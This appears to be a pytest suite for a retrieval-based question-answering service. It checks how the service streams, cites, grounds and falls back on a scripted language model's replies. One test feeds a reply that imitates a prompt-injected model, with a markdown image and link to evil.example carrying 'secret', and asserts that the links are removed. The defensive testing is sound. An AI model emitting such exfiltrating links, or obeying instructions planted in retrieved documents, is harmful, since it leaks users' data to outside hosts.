"""The language model over a real socket: what it is asked, and what becomes of what it replies."""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Generator, Iterator
from typing import Any

import pytest
from pydantic import SecretStr

from answering.scripted_llm import Reply, ScriptedLlm, scripted_llm
from qa_service.answering.events import AnswerEvent, Cited, Delta, Finished, Replaced, Retrieved
from qa_service.answering.language_model import LanguageModel
from qa_service.answering.prompt import NO_ANSWER
from qa_service.errors import InvalidSettings, LanguageModelError
from qa_service.records import Answer, Turn
from qa_service.retrieval.retriever import Retriever
from qa_service.service import Service
from qa_service.settings import Settings
from qa_service.web.app import create_app
from web.client import call
from web.test_streaming import events_of

QUESTION = "Who added a separate condenser?"
GOOD = "James Watt added a separate condenser [1]."
SECRET = "sk-secret"
HELLO = [{"role": "user", "content": "Hello"}]


@pytest.fixture(scope="module")
def contacted() -> Iterator[list[Any]]:
    """Every host that this process looks up or connects to, while importing litellm as well."""
    seen: list[Any] = []
    connect, getaddrinfo = socket.socket.connect, socket.getaddrinfo

    def connecting(self: socket.socket, address: Any) -> None:
        seen.append(address[0])
        connect(self, address)

    def asking(host: Any, *args: Any, **options: Any) -> Any:
        seen.append(host)
        return getaddrinfo(host, *args, **options)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", connecting)
        patch.setattr(socket, "getaddrinfo", asking)
        yield seen


@pytest.fixture(scope="module")
def llm(contacted: list[Any]) -> Iterator[ScriptedLlm]:
    del contacted
    with scripted_llm() as script:
        yield script


@pytest.fixture(scope="module")
def settings(library_settings: Settings, llm: ScriptedLlm) -> Settings:
    return library_settings.model_copy(
        update={
            "threshold": 0.0,
            "llm_model": "scripted",
            "llm_base_url": llm.url,
            "llm_api_key": SecretStr(SECRET),
            "llm_timeout": 5.0,
        }
    )


@pytest.fixture(scope="module")
def model(settings: Settings) -> LanguageModel:
    return LanguageModel(settings)


@pytest.fixture(scope="module")
def service(settings: Settings, model: LanguageModel) -> Iterator[Service]:
    retriever = Retriever.open(settings.index, settings)
    opened = Service(settings, retriever, language_model=model)
    yield opened
    opened.close()


def hurried(service: Service, seconds: float) -> Service:
    """The same service with less patience; it shares the retriever, so it is not closed."""
    settings = service.settings.model_copy(update={"llm_timeout": seconds})
    with service._using() as retriever:
        return Service(settings, retriever, language_model=LanguageModel(settings))


def asked(service: Service, question: str = QUESTION, **options: Any) -> Answer:
    _, answer = service.ask(question, **options)
    assert answer is not None
    return answer


def shown(events: list[AnswerEvent]) -> str:
    """The text as a reader has it at the end of a stream."""
    text = ""
    for event in events:
        if isinstance(event, Delta):
            text += event.text
        if isinstance(event, Replaced):
            text = ""
    return text


def test_a_good_answer_is_written_streamed_and_cited(service: Service, llm: ScriptedLlm) -> None:
    llm.say(Reply(("James Wa", "tt added a sep", "arate condenser [", "1].")))
    events = list(service.stream(QUESTION))
    assert isinstance(events[0], Retrieved)
    finished = events[-1]
    assert isinstance(finished, Finished)
    answer = finished.answer
    assert answer is not None
    assert (answer.mode, answer.note, answer.ungrounded) == ("generative", None, ())
    assert answer.text == shown(events) == "James Watt added a separate condenser."
    assert sum(isinstance(event, Delta) for event in events) >= 3
    [citation] = answer.citations
    assert [event for event in events if isinstance(event, Cited)] == [Cited(citation)]
    source = service.document(citation.document_id).text
    assert source[citation.source_start : citation.source_end] == citation.cited_text
    assert citation.cited_text == "James Watt added a separate condenser."
    assert asked(service) == answer


def test_the_first_words_come_while_the_model_still_writes(
    service: Service, llm: ScriptedLlm
) -> None:
    llm.say(Reply(("James Watt added ", "a separate ", "condenser [1]."), wait_between=0.2))
    started = time.monotonic()
    at = [
        time.monotonic() - started for event in service.stream(QUESTION) if isinstance(event, Delta)
    ]
    assert at[0] < at[-1] - 0.3


@pytest.mark.parametrize("split", [1, 7])
def test_letters_cut_in_the_middle_of_their_bytes_arrive_whole(
    service: Service, llm: ScriptedLlm, split: int
) -> None:
    llm.say(Reply(("The sea wall 𝕃-7 is 4.2 km long", " [1]. 🏗️"), split=split))
    answer = asked(service, "How long is the sea wall 𝕃-7?")
    assert answer.text.startswith("The sea wall 𝕃-7 is 4.2 km long.")
    assert answer.citations[0].cited_text.startswith("The new sea wall 𝕃-7 is 4.2 km long")


def test_the_model_is_given_the_passages_as_data(service: Service, llm: ScriptedLlm) -> None:
    llm.say(GOOD)
    asked(service)
    request = llm.requests[0]
    assert request["model"] == "scripted"
    assert request["stream"] is True
    assert request["max_tokens"] == service.settings.llm_max_tokens
    assert llm.keys == [f"Bearer {SECRET}"]
    assert "James Watt added a separate condenser." in llm.prompt()
    assert request["messages"][-1]["content"].endswith(f"Question: {QUESTION}")


def test_what_the_model_thinks_first_is_not_shown(service: Service, llm: ScriptedLlm) -> None:
    llm.say(Reply(("<think>", "Who? Watt.", "</think>", GOOD)))
    assert asked(service).text == "James Watt added a separate condenser."


def test_a_sentence_that_no_passage_backs_is_marked(service: Service, llm: ScriptedLlm) -> None:
    llm.say(f"{GOOD} He was born in Greenock [1].")
    answer = asked(service)
    [span] = answer.ungrounded
    assert answer.text[span.start : span.end] == "He was born in Greenock."


def test_an_invented_quote_is_marked(service: Service, llm: ScriptedLlm) -> None:
    llm.say(f"{GOOD} It “saved nine tenths of the coal” [1].")
    answer = asked(service)
    [span] = answer.ungrounded
    assert answer.text[span.start : span.end] == "It “saved nine tenths of the coal”."


@pytest.mark.parametrize("number", [4, 5, 99])
def test_an_answer_that_cites_the_wrong_passage_is_withdrawn(
    service: Service, llm: ScriptedLlm, number: int
) -> None:
    llm.say(GOOD.replace("[1]", f"[{number}]"))
    events = list(service.stream(QUESTION))
    assert any(isinstance(event, Replaced) for event in events)
    answer = asked(service)
    assert answer.mode == "extractive"
    assert answer.note is not None
    assert "not backed by the passages" in answer.note
    assert shown(events) == answer.text


def test_a_model_that_obeys_a_document_cannot_make_the_page_load_anything(
    service: Service, llm: ScriptedLlm
) -> None:
    llm.say(f"{GOOD} ![status](https://evil.example/?q=secret) [more](https://evil.example/x)")
    events = list(service.stream(QUESTION))
    assert "evil.example" not in "".join(e.text for e in events if isinstance(e, Delta))
    answer = asked(service)
    assert answer.text.startswith("James Watt added a separate condenser.")
    assert "evil.example" not in answer.text
    assert "](" not in answer.text


FAILURES = {
    "cut short": (Reply((GOOD,), finish_reason="length"), "token limit"),
    "withheld": (Reply((GOOD,), finish_reason="content_filter"), "without a whole answer"),
    "broken off": (Reply(("James Watt added ", "a sep"), cut=True), "broke off"),
    "no end": (Reply((GOOD,), finish_reason=None), "broke off"),
    "empty": (Reply(()), "empty"),
    "blank": (Reply((" \n ",)), "empty"),
    "garbage": (Reply(raw=b"data: {no json}\n\n"), "broke off"),
    "no events": (Reply(raw=b"<html>Sign in</html>"), "without a whole answer"),
    "an error event": (Reply(raw=b'data: {"error": {"message": "sk-secret"}}\n\n'), "broke off"),
    "refused": (Reply(status=401), "refused the key (401)"),
    "thoughts only": (Reply(("<think>Who?", " Watt.")), "empty"),
    "too long": (Reply(status=400), "refused the request (BadRequestError, 400)"),
    "unknown": (Reply(status=404), "does not exist (404)"),
    "broken": (Reply(status=500), "could not be reached"),
    "no answer": (Reply((NO_ANSWER,)), "found no answer in the passages"),
    "late no answer": (Reply((f"Sorry. {NO_ANSWER}.",)), "found no answer in the passages"),
    "nonsense": (Reply(("blah blah blah",)), "not backed"),
    "endless": (Reply(("word " * 1000,) * 100), "more than it was asked for"),
}


@pytest.mark.parametrize("name", FAILURES)
def test_a_failing_model_gives_way_to_the_documents_own_sentences(
    service: Service, llm: ScriptedLlm, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    reply, why = FAILURES[name]
    llm.say(reply)
    events = list(service.stream(QUESTION))
    finished = events[-1]
    assert isinstance(finished, Finished)
    answer = finished.answer
    assert answer is not None
    assert answer.mode == "extractive"
    assert answer.note is not None
    assert why in answer.note
    assert answer.note.endswith("these are the documents' own sentences.")
    assert "James Watt added a separate condenser." in answer.text
    assert shown(events) == answer.text
    withdrawn = [event for event in events if isinstance(event, Replaced)]
    assert all(event.note == answer.note for event in withdrawn)
    assert SECRET not in answer.note + caplog.text


def test_a_withdrawn_answer_is_a_replace_event_on_the_wire(
    service: Service, llm: ScriptedLlm
) -> None:
    llm.say(Reply(("James Watt added ", "a sep"), cut=True))
    body = {"question": QUESTION, "stream": True}
    reply = call(create_app(service.settings, service), "POST", "/v1/ask", json=body)
    events = events_of(reply.text)
    names = [name for name, _ in events]
    assert names[:2] == ["retrieval", "delta"]
    replaced = names.index("replace")
    answer = events[-1][1]["answer"]
    assert events[replaced][1] == {"text": "", "note": answer["note"]}
    after = [data["text"] for name, data in events[replaced:] if name == "delta"]
    assert "".join(after) == answer["text"]
    assert answer["mode"] == "extractive"


def test_nothing_is_withdrawn_where_nothing_was_shown(service: Service, llm: ScriptedLlm) -> None:
    llm.say(NO_ANSWER)
    assert not any(isinstance(event, Replaced) for event in service.stream(QUESTION))


def test_a_model_that_does_not_listen_is_given_up(service: Service) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    settings = service.settings.model_copy(update={"llm_base_url": f"http://127.0.0.1:{port}/v1"})
    with pytest.raises(LanguageModelError, match="could not be reached"):
        list(LanguageModel(settings).stream(HELLO))


@pytest.mark.parametrize(
    "reply",
    [
        Reply((GOOD,), wait_before=3),
        Reply(("James ", "Watt ", "added "), wait_between=1.5),
        Reply(("James Watt ",) * 40, wait_between=0.25),
        Reply(raw=b": still here\n\n" * 20, split=14, wait_between=0.1),
    ],
)
def test_a_slow_model_is_given_up_in_time(service: Service, llm: ScriptedLlm, reply: Reply) -> None:
    llm.say(reply)
    started = time.monotonic()
    answer = asked(hurried(service, 0.6))
    assert time.monotonic() - started < 1.4
    assert answer.note == (
        "The language model did not answer within 0.6 s; these are the documents' own sentences."
    )


def test_an_overloaded_model_is_asked_once_more(service: Service, llm: ScriptedLlm) -> None:
    busy = Reply(status=429, headers={"Retry-After": "0.2"})
    llm.say(busy, GOOD)
    started = time.monotonic()
    assert asked(service).mode == "generative"
    assert time.monotonic() - started >= 0.2
    assert len(llm.requests) == 2
    llm.say(busy)
    answer = asked(service)
    assert answer.note is not None
    assert "is overloaded (429)" in answer.note
    assert len(llm.requests) == 2


def test_a_model_that_asks_for_more_time_than_there_is_is_not_waited_for(
    service: Service, llm: ScriptedLlm
) -> None:
    llm.say(Reply(status=429, headers={"Retry-After": "3600"}))
    started = time.monotonic()
    assert asked(service).mode == "extractive"
    assert time.monotonic() - started < 2
    assert len(llm.requests) == 1


def test_where_the_service_abstains_the_model_is_not_asked(
    settings: Settings, model: LanguageModel, llm: ScriptedLlm
) -> None:
    llm.say(GOOD)
    unsure = settings.model_copy(update={"threshold": 1.0})
    with Retriever.open(unsure.index, unsure) as retriever:
        service = Service(unsure, retriever, language_model=model)
        assert service.ask("What is the capital of Peru?")[1] is None
        assert list(service.stream("What is the capital of Peru?"))[1:] == [Finished(None)]
    assert llm.requests == []


def test_a_follow_up_is_told_what_was_said_before(service: Service, llm: ScriptedLlm) -> None:
    llm.say(GOOD)
    turns = [Turn("user", QUESTION), Turn("assistant", "James Watt.")]
    retrieval, _ = service.ask("And why?", conversation=turns)
    assert retrieval.question == f"{QUESTION} And why?"
    roles = [message["role"] for message in llm.requests[0]["messages"]]
    assert roles == ["system", "user", "assistant", "user"]
    assert llm.prompt().endswith("Question: And why?")


def test_a_follow_up_may_be_reworded_by_the_model(service: Service, llm: ScriptedLlm) -> None:
    settings = service.settings.model_copy(update={"llm_rewrite": True})
    with service._using() as retriever:
        rewording = Service(settings, retriever, language_model=LanguageModel(settings))
    turns = [Turn("user", QUESTION), Turn("assistant", "James Watt.")]
    llm.say("Why did James Watt add a separate condenser?", GOOD)
    retrieval, answer = rewording.ask("Why did he?", conversation=turns)
    assert retrieval.question == "Why did James Watt add a separate condenser?"
    assert answer is not None
    for unusable in (Reply(status=500), Reply(("a\nb",)), Reply(("![x](http://e.example)",))):
        llm.say(unusable, GOOD)
        retrieval, _ = rewording.ask("Why did he?", conversation=turns)
        assert retrieval.question == f"{QUESTION} Why did he?"
    llm.say(GOOD)
    rewording.ask("Where does the Danube rise?", conversation=turns)
    assert len(llm.requests) == 1


def test_a_reader_who_goes_away_ends_the_request(service: Service, llm: ScriptedLlm) -> None:
    llm.say(Reply(("James Watt added ",) * 100, wait_between=0.02))
    events = service.stream(QUESTION)
    for event in events:
        if isinstance(event, Delta):
            break
    assert isinstance(events, Generator)
    events.close()
    assert llm.closed_early.wait(5)


def test_no_thread_outlives_its_answer(service: Service, llm: ScriptedLlm) -> None:
    llm.say(GOOD)
    asked(service)
    deadline = time.monotonic() + 5
    while any(one.name == "qa-language-model" for one in threading.enumerate()):
        assert time.monotonic() < deadline
        time.sleep(0.01)


def test_the_key_is_shown_nowhere(settings: Settings) -> None:
    assert SECRET not in repr(settings) + str(settings) + settings.model_dump_json()
    with pytest.raises(InvalidSettings) as caught:
        Settings.create(llm_api_key=["sk-secret"])
    assert SECRET not in str(caught.value)


def test_a_server_without_a_key_is_not_sent_one_from_the_environment(
    settings: Settings, llm: ScriptedLlm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-of-somebody-else")
    llm.say(GOOD)
    keyless = LanguageModel(settings.model_copy(update={"llm_api_key": None}))
    assert "".join(keyless.stream(HELLO)) == GOOD
    assert llm.keys == ["Bearer none"]


def test_a_model_without_litellm_is_refused_with_the_way_to_get_it(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "litellm", None)
    with pytest.raises(InvalidSettings, match="litellm is not installed") as caught:
        LanguageModel(settings)
    assert "qa-service[llm]" in caught.value.hint


def test_nothing_but_the_model_was_contacted(contacted: list[Any]) -> None:
    assert set(contacted) == {"127.0.0.1"}
